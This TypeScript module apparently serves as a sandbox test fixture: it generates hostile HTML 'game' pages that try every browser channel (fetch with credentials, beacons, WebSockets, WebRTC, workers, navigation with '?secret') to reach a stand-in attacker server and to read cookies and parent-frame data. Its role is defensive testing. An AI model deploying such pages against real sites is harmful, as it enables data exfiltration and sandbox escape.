/**
 * A game that means harm: it tries each way out that a page has, tells its host page what it could read, and says when it
 * has tried everything. `outside` is the attacker's server, `stun` the port of the attacker's UDP socket, `api` ours.
 */
export interface Targets {
  readonly outside: string;
  readonly stun: number;
  readonly api: string;
}

/** What a peer connection sends to the attacker; ends in an expression. */
export const callOut = (stun: number) =>
  `(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] }); ` +
  `p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)); })()`;

const page = (body: string) => `<!doctype html><meta charset="utf-8"><title>hostile</title><body>${body}`;

/** All channels that leave the document where it is. */
export function hostileGame({ outside, stun, api }: Targets): string {
  const secure = outside.replace('http:', 'https:');
  return page(`
<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}">
<link rel="prefetch" href="${outside}/prefetch"><link rel="preload" as="image" href="${outside}/preload">
<link rel="modulepreload" href="${outside}/modulepreload"><link rel="icon" href="${outside}/icon">
<link rel="stylesheet" href="${outside}/stylesheet"><link rel="manifest" href="${outside}/manifest">
<style>@import '${outside}/import'; @font-face { font-family: f; src: url(${outside}/font) } body { font-family: f; background: url(${outside}/background) }</style>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${outside}/speculated"]}],"prerender":[{"source":"list","urls":["${outside}/prerendered"]}]}</script>
<form id="form" action="${outside}/form" method="post"></form>
<a id="link" href="${outside}/link" ping="${outside}/ping" target="_blank">x</a><a id="saved" href="${outside}/saved" download>x</a>
<script>
const told = {};
const read = (name, get) => { try { told[name] = 'read ' + get(); } catch (error) { told[name] = error.name; } };
// nothing is waited for that a browser may leave undecided; what is on its way when the word is given still arrives
const attempt = (work) => { try { return Promise.resolve(work()).catch(() => undefined); } catch {} };
const add = (tag, properties) => document.body.append(make(tag, properties));
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
read('cookie', () => document.cookie);
read('localStorage', () => localStorage.length);
read('indexedDB', () => indexedDB.open('x'));
read('parent document', () => parent.document.title);
read('parent location', () => parent.location.href);
read('parent cookie', () => parent.document.cookie);
read('origin', () => origin);
(async () => {
  const bases = ['${outside}', '${api}'];
  const fetches = [];
  for (const base of bases) {
    fetches.push(attempt(() => fetch(base + '/fetch', { credentials: 'include', mode: 'no-cors' })));
    fetches.push(attempt(() => fetch(base + '/api/other', { credentials: 'include' }).then((r) => r.text()).then((text) => (told['api by fetch'] = text))));
    attempt(() => { const x = new XMLHttpRequest(); x.open('POST', base + '/xhr'); x.withCredentials = true; x.send('x'); });
    attempt(() => navigator.sendBeacon(base + '/beacon', 'x'));
    attempt(() => new WebSocket(base.replace('http', 'ws') + '/socket'));
    attempt(() => { const s = new EventSource(base + '/events'); s.onerror = () => s.close(); });
    attempt(() => add('img', { src: base + '/image' }));
    attempt(() => add('script', { src: base + '/script' }));
    attempt(() => add('link', { rel: 'stylesheet', href: base + '/style' }));
    attempt(() => add('video', { src: base + '/video' }));
    attempt(() => add('iframe', { src: base + '/frame' }));
    attempt(() => add('object', { data: base + '/object' }));
    attempt(() => add('embed', { src: base + '/embed' }));
    attempt(() => import(base + '/module'));
    attempt(() => new Worker(base + '/worker'));
    attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + base + "/blobworker')"]))));
    attempt(() => navigator.serviceWorker.register(base + '/serviceworker'));
  }
  attempt(() => new WebTransport('${secure}/transport').ready);
  attempt(() => ${callOut(stun)});
  await Promise.all(fetches);
  attempt(() => form.submit());
  attempt(() => link.click());
  attempt(() => saved.click());
  for (const base of bases) {
    attempt(() => open(base + '/opened'));
    attempt(() => { top.location = base + '/top'; });
    attempt(() => { parent.location.replace(base + '/parent'); });
  }
  parent.postMessage({ told }, '*');
})();
</script>`);
}

/** Calls by WebRTC, two of them from frames of the game's own making: their scripts run where no prelude of the page reaches. */
export const calls = ({ stun }: Targets): Readonly<Record<string, string>> => ({
  itself: page(`<script>${callOut(stun)}.finally(() => parent.postMessage({ told: {} }, '*'))</script>`),
  srcdoc: page(`<script>
const f = document.createElement('iframe');
f.srcdoc = '<script>' + ${JSON.stringify(callOut(stun))} + '.finally(() => parent.parent.postMessage({ told: {} }, "*"))</' + 'script>';
document.body.append(f);
</script>`),
  'a javascript: URL': page(`<script>
const f = document.createElement('iframe');
f.src = 'javascript:' + encodeURIComponent(${JSON.stringify(callOut(stun))} + '.finally(() => parent.parent.postMessage({ told: {} }, "*"))');
document.body.append(f);
</script>`),
});

/** The document itself goes away, and takes something with it. */
export const departures = ({ outside }: Targets): Readonly<Record<string, string>> => ({
  location: page(`<script>parent.postMessage({ told: {} }, '*'); location = '${outside}/gone?secret';</script>`),
  refresh: page(
    `<script>parent.postMessage({ told: {} }, '*');</script><meta http-equiv="refresh" content="0;url=${outside}/gone?secret">`,
  ),
});
